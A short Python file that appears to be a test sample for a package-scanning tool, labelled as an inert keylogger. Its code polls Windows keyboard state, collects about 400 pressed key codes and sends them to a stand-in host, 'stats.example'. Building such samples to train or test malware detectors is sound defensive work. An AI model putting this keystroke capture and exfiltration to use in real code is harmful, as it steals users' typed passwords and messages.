# pkgguard corpus 441 (keylogger), modelled on [stealer-profile]; inert, never run.
import ctypes
import time
import urllib.request

_user32 = ctypes.windll.user32
_state = (ctypes.c_ubyte * 256)()
_typed = []
while len(_typed) < 400:
    _user32.GetKeyboardState(ctypes.byref(_state))
    _typed.extend(code for code in range(8, 256) if _state[code] & 0x80)
    time.sleep(0.02)
urllib.request.urlopen("https://stats.example/k", data=bytes(_typed), timeout=5)
